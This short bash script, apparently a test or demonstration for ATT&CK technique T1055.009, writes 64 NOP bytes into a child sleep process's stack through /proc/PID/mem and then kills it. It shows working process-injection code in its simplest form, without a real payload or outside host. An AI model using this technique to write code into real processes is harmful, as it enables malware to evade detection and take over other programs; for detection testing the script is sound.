#!/bin/bash
# T1055.009: A script writes into another process through /proc.
sleep 5 & p=$!; sleep 0.2
python3 - $p <<'P'
import sys
p=sys.argv[1]
a=int([l for l in open('/proc/%s/maps'%p) if 'stack' in l][0].split('-')[0],16)
with open('/proc/%s/mem'%p,'r+b',buffering=0) as f: f.seek(a+4096); f.write(b'\x90'*64)
P
kill $p
